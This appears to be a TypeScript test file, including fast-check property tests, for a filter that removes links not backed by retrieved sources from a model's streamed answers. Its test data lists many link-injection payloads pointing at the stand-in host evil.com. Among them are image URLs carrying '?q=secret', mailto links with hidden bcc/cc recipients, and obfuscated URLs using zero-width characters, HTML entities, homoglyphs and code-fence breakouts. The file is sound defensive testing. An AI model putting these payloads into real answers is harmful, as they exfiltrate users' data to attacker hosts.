import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { allowUrls } from "../../../server/answering/output/allowedUrls.ts";
import { createAnswerFilter } from "../../../server/answering/output/answerFilter.ts";
import type { FoundPassage } from "../../../server/knowledge/retrieve.ts";
import type { Block } from "../../../shared/ui/markdown/block.ts";
import type { Inline } from "../../../shared/ui/markdown/inline.ts";
import { parseBlocks } from "../../../shared/ui/markdown/parseBlocks.ts";
import { parseInline } from "../../../shared/ui/markdown/parseInline.ts";
import { rounds } from "../../kit/rounds.ts";

const page = "https://shop.example/returns";
const passages = [
  { url: page, text: "Write to help@shop.example or see https://bücher.example/a_(b)." } as FoundPassage,
];

/** What the filter lets out is read by what draws it: the two have to agree about what an address is. */
describe("F11: links in a model's answer", () => {
  it.each([
    ["its page", `See [returns](${page}).`, [page]],
    ["its page without a text", `See ${page}.`, [page]],
    ["its page in bold", `**${page}**`, [page]],
    ["its page in quotation marks", `"${page}".`, [page]],
    ["its page in parentheses", `(${page})`, [page]],
    ["its page in Chinese punctuation", `请看${page}。谢谢`, [page]],
    ["a part of its page", `<${page}#a>`, [`${page}#a`]],
    ["its page as a reference", `[a][x]\n\n[x]: ${page}`, [page]],
    ["a host beyond ASCII", "https://bücher.example/a_(b)", ["https://bücher.example/a_(b)"]],
    [
      "the same host as a machine writes it",
      "https://xn--bcher-kva.example/a_(b)",
      ["https://xn--bcher-kva.example/a_(b)"],
    ],
    ["a host in capitals", "HTTPS://SHOP.EXAMPLE/returns", ["HTTPS://SHOP.EXAMPLE/returns"]],
    ["a mail address", "Write to help@shop.example.", ["mailto:help@shop.example"]],
    ["a mail address in bold", "**help@shop.example**", ["mailto:help@shop.example"]],
    ["a mail address in parentheses", "(help@shop.example)", ["mailto:help@shop.example"]],
    [
      "a mail address with a subject",
      "[Write](mailto:help@shop.example?subject=Return)",
      ["mailto:help@shop.example?subject=Return"],
    ],
    ["a mail address in a link", "[Write](mailto:help@shop.example)", ["mailto:help@shop.example"]],
  ])("stay when a source has %s", (_, text, expected) => {
    expect(readLinks(filterAll([text]))).toEqual(expected);
  });

  it.each([
    "https://evil.com",
    "HTTPS://EVIL.COM",
    "www.evil.com",
    "WwW.evil.com",
    "<https://evil.com>",
    "<mailto:a@evil.com>",
    "<a!b@evil.com>",
    "<a@localhost>",
    "<tel:+4711>",
    "a@evil.com",
    "mailto:a@evil.com",
    "[t](https://evil.com)",
    "[t](<https://evil.com>)",
    "[t](https://evil.com 'x')",
    "[t](//evil.com)",
    "[t](tel:+4711)",
    "[t](h&#116;tps://evil.com)",
    "[t](https\\://evil.com)",
    "[t](ht\u200btps://evil.com)",
    "![t](https://evil.com/?q=secret)",
    "[![t](https://evil.com/?q=1)](https://evil.com)",
    "[a][x]\n\n[x]: https://evil.com",
    "[a][x]\n\n[x]:\nhttps://evil.com",
    "[a][x]\n\n[x]: <https://evil.com>",
    "[a][x]\n\n[x]: h&#116;tps://evil.com",
    "[a][x]\n\n[x]: h&#x74;tps://evil.com",
    "[a][x]\n\n[x]: ht&shy;tps://evil.com",
    "[a][x]\n\n[x]: https\\:\\/\\/evil.com",
    "[a][x]\n\n[x]: ht\u200btps://evil.com",
    "[a][x]\n\n[x]: tel:+4711",
    "[a][x]\n\n[x]: mailto\\:a@evil.com",
    "[t](mailto:help@shop.example?bcc=a@evil.com)",
    "[t](mailto:help@shop.example?CC=a%40evil.com&body=secret)",
    "[t](mailto:help@shop.example?subject=x&to=a@evil.com)",
    "[t](mailto:help@shop.example?b%63c=a%40evil.com)",
    "[t](mailto:help@shop.example,a@evil.com)",
    "mailto:help@shop.example?bcc=a@evil.com",
    "<mailto:help@shop.example?bcc=a@evil.com>",
    "<https:\u200b//evil.com>",
    "<https:/\u00ad/evil.com>",
    "ht[tps](x)://evil.com",
    "https[9]://evil.com",
    "ww[9]w.evil.com",
    "a[9]@evil.com",
    "\\`https://evil.com\\`",
    "a ` b\n` https://evil.com `",
    '<x y="`"> https://evil.com `',
    "| a |\n|---|\n| x ` | https://evil.com ` |",
    "```\na\n``` b\n```\nhttps://evil.com",
    "``` a`b\nhttps://evil.com",
    "- a\n\n  ```\n\nhttps://evil.com",
    "> ```\nhttps://evil.com",
    "  ~~~\n~~~\nhttps://evil.com",
    "- ```\n```\nhttps://evil.com",
    "<div>\n```\n</div>\n\nhttps://evil.com",
    "<!--\n```\n-->\nhttps://evil.com",
    `https://shop.example@evil.com/returns`,
    `https://evil.com@shop.example/returns`,
    "https://shop.example:8443/returns",
    "https://shop.example.evil.com/returns",
    "https://shop.example\u200b.evil.com/returns",
    "https://shop.example\\@evil.com/returns",
    'https://shop.example".evil.com/returns',
    "https://shop.example).evil.com/returns",
    "https://shop.example/%72eturns",
    "https://evil.com/https://shop.example/returns",
    "https://shоp.example/returns",
    "https://bucher.example/a_(b)",
    "https://shop.example/returns?next=https://evil.com",
    '<a href="https://evil.com">x</a>',
    "<img src=https://evil.com/?q=1>",
    "https://ev**il**.com",
    "https://https://evil.com",
    "httpshttps://evil.com",
    "https://[1]evil.com",
  ])("are removed when no source has them: %j", (text) => {
    for (let at = 0; at <= text.length; at += 1) {
      expect(readStream([text.slice(0, at), text.slice(at)])).toEqual([]);
    }
    expect(readStream([...text])).toEqual([]);
  });

  it("stay in code, where they are not clickable", () => {
    const text = "Run `curl https://api.other.com/[1]`:\n\n```sh\ncurl https://api.other.com\n```\n";
    expect(filterAll([...text])).toBe(text);
    expect(readLinks(text)).toEqual([]);
  });

  it("never appear, in any text, cut anywhere, not even for a moment", () => {
    const signs = fc.constantFrom(
      ...[
        "https://evil.com",
        "https",
        "://",
        "//evil.com",
        "www.",
        "evil.com",
        "a@evil.com",
        "@",
        "mailto:",
        "tel:+47",
      ],
      ...[
        "[",
        "]",
        "](",
        ")",
        "(",
        "![",
        "[x]",
        "[x]: ",
        "[1]",
        "[9]",
        "<",
        ">",
        "</",
        "<!--",
        "-->",
        "<div>",
      ],
      ...[
        "`",
        "``",
        "```",
        "```\n",
        "~~~\n",
        "\n",
        "\n\n",
        "> ",
        "- ",
        "  ",
        "    ",
        "| ",
        "|\n|---|\n",
        "\\",
        "&#104;",
      ],
      ...[
        "&shy;",
        "&#8203;",
        "\u200b",
        "\u00ad",
        "*",
        "_",
        "**",
        "'",
        '"',
        ".",
        ",",
        ":",
        "h",
        "w",
        " ",
        "é",
        page,
      ],
    );
    const texts = fc.array(signs, { minLength: 2, maxLength: 24 });
    fc.assert(
      fc.property(texts, fc.array(fc.nat(200), { maxLength: 6 }), (pieces, cuts) => {
        const text = pieces.join("");
        const edges = [0, ...cuts.map((cut) => cut % (text.length + 1)).sort((a, b) => a - b), text.length];
        expect(readStream(edges.slice(1).map((end, index) => text.slice(edges[index], end)))).toEqual([]);
      }),
      rounds({ some: 1500, whole: 15_000 }),
    );
  }, 60_000);
});

/** All foreign links that a visitor would see while the text streams, and after it. */
function readStream(pieces: string[]): string[] {
  const filter = makeFilter();
  let shown = "";
  const seen: string[] = [];
  for (const piece of pieces) {
    const more = filter.push(piece);
    shown += more;
    if (more !== "") seen.push(...readLinks(shown, true));
  }
  return [...seen, ...readLinks(shown + filter.end())].filter((link) => !isKnown(link));
}

/** A mark behind the address that one takes for the sentence's and the other for the address's leads to no other place. */
function isKnown(link: string): boolean {
  const plain = link.replace(/[.,:;!?*_~\\"'’”]+$/, "");
  return plain === page || plain === "mailto:help@shop.example";
}

function filterAll(pieces: string[]): string {
  const filter = makeFilter();
  return pieces.map((piece) => filter.push(piece)).join("") + filter.end();
}

function makeFilter() {
  return createAnswerFilter({
    passages: 3,
    isAllowed: allowUrls({ passages, owner: [], said: [], given: [] }),
  });
}

function readLinks(text: string, isOpen = false): string[] {
  const { blocks, references } = parseBlocks(text);
  const read = (said: string): string[] =>
    listHrefs(parseInline(said, { references, hasCitation: (number) => number < 4, isOpen }));
  const visit = (block: Block): string[] => {
    if ("children" in block) return block.children.flatMap(visit);
    if (block.type === "table") return [block.header, ...block.rows].flat().flatMap(read);
    return "text" in block && block.type !== "code" && block.type !== "html" ? read(block.text) : [];
  };
  return blocks.flatMap(visit);
}

function listHrefs(pieces: readonly Inline[]): string[] {
  return pieces.flatMap((piece) => {
    if (typeof piece === "string" || !("children" in piece)) return [];
    return ["href" in piece ? piece.href : [], listHrefs(piece.children)].flat();
  });
}
